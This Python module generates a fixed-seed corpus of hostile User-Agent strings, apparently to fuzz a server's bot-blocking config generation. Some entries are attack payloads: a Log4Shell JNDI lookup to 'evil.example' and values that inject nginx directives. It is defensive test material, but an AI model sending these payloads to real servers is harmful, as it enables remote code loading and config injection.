"""A deterministic corpus of hostile user agents (notes/webservers.md section 6, and worse)."""

from __future__ import annotations

import random

FRAGMENTS = [
    '"',
    "'",
    "{",
    "}",
    ";",
    "$",
    "${jndi:ldap://evil.example/a}",
    "\\",
    "#",
    " ",
    "\t",
    "~*",
    "^",
    "|",
    "(",
    ")",
    "[",
    "]",
    "?",
    "*",
    "+",
    ".",
    "%",
    "&",
    "<",
    ">",
    "!",
    "=",
    ",",
    "`",
    "@",
    "\\x2f",
    "\\\\",
    'zz" 1; "~*" 1; "zz',
    "default",
    "include",
    "hostnames",
    "volatile",
    "} server { listen 1; #",
    "${APACHE_LOG_DIR}",
    "%{HTTP_HOST}",
    "\\\n",
    "ü",
    "ï",
    "中文",
    "🙂",
    "\u00a0",
    "\u2028",
    "-",
    "/",
    ":",
    "Mozilla/5.0",
    "(compatible;",
    "EvilBot",
    "evil\\",
    "C:\\Windows\\evilbot.exe",
    "O'Reilly",
]
FIXED = [
    'zz" 1; "~*" 1; "zz',
    "default",
    "include",
    "Mozilla/5.0 ${jndi:ldap://evil.example/a}",
    'EvilBot"; } server { listen 1; #',
    "semi;colon bot",
    "C:\\Windows\\evilbot.exe",
    "O'Reilly-bot (compatible; +http://x.y/b.html)",
    "tab\there",
    "ünïcode-bot",
    "evil\\",
    "trail\\",
    "${jndi:",
    "#comment",
    "$remote_addr",
    "{}",
    ";",
    '"',
    "'",
    "\\",
    "~*",
    "-bot",
    "!bot",
    "<bot",
    ">bot",
    "=bot",
]


def _invalid_utf8(rng: random.Random) -> str:
    raw = bytes(
        rng.choice([0x80, 0xBF, 0xC0, 0xC3, 0xE2, 0xF0, 0xFF, 0xFE]) for _ in range(rng.randint(1, 6))
    )
    return raw.decode("utf-8", "surrogateescape")  # the bytes come back out on encode


def hostile_agents(count: int, seed: int = 3) -> list[str]:
    """``count`` distinct hostile agents (no CR/LF/NUL: those never reach a server)."""
    rng = random.Random(seed)
    out = dict.fromkeys(FIXED)
    while len(out) < count:
        parts = [f"h{len(out)}x"]  # a unique marker keeps every agent distinct under case folding
        for _ in range(rng.randint(1, 12)):
            roll = rng.random()
            if roll < 0.6:
                parts.append(rng.choice(FRAGMENTS).replace("\n", ""))
            elif roll < 0.75:
                parts.append(_invalid_utf8(rng))
            else:
                parts.append("".join(chr(rng.randint(0x20, 0x7E)) for _ in range(rng.randint(1, 20))))
        if rng.random() < 0.01:
            parts.append(rng.choice(FRAGMENTS).replace("\n", "") * (7000 // 8))  # multi-KB agents
        out.setdefault("".join(parts)[:8192], None)
    return list(out)


#: What a self-declared bot's agent must survive, one class per entry (issue: quotes, backslashes,
#: tabs and control characters, multi-KB agents, nginx map keywords, regex metacharacters,
#: ``${jndi:...}``, percent and dollar signs, braces, semicolons, ``#``, invalid UTF-8).
HOSTILE_CLASSES: dict[str, str] = {
    "quote": 'zz" 1; "~*" 1; "zz',
    "single-quote": "O'Reilly'",
    "backslash": "C:\\Windows\\evil\\",
    "escape-lookalike": "\\x22 \\\\ \\x2f",
    "tab": "tab\there",
    "control": "bell\x07esc\x1b[2Jdel\x7f",
    "long": "A" * 3000,
    "default": "default",
    "hostnames": "hostnames",
    "include": "include",
    "regex": ".*+?^$()[]{}|",
    "jndi": "${jndi:ldap://evil.example/a}",
    "percent": "%{HTTP_HOST} %s %n 100%",
    "dollar": "$remote_addr $1 ${APACHE_LOG_DIR}",
    "braces": "} server { listen 1; #",
    "semicolon": ";;; a;b",
    "hash": "#comment # not",
    "unicode": "ünïcode 中文 🙂",
    "invalid-utf8": "\udcff\udcc3(",
}
#: Ways an agent declares itself a bot: a bot word, a ``+http`` URL, a contact address, a
#: ``name/version`` bot name (``{m}`` is the agent's unique marker).
DECLARATIONS = (" bot", " crawler", " web spider", " fetcher", " (+http://{m}.example/bot.html)",
                " contact {m}-ops@{m}.example", " {m}Bot/1.0")  # fmt: skip


def declared_bots(count: int = 240, seed: int = 5) -> list[str]:
    """``count`` distinct self-declared bot agents, each hostile class in every declaration form.

    Each agent starts with a unique marker (``q17z``, never a product name by itself) followed by
    one hostile class, a few random fragments and a declaration; agents declaring themselves by
    a bot word alone carry no product name, so only their exact agent can block them.
    """
    rng = random.Random(seed)
    names = list(HOSTILE_CLASSES)
    out: dict[str, None] = {}
    i = 0
    while len(out) < count:
        marker = f"q{i}z"
        hostile = HOSTILE_CLASSES[names[i % len(names)]]
        fragments = [rng.choice(FRAGMENTS).replace("\n", "") for _ in range(rng.randint(0, 3))]
        declaration = DECLARATIONS[(i // len(names)) % len(DECLARATIONS)].format(m=marker)
        agent = f"{marker} {hostile} {''.join(fragments)}{declaration}"
        out.setdefault(agent, None)
        i += 1
    return list(out)
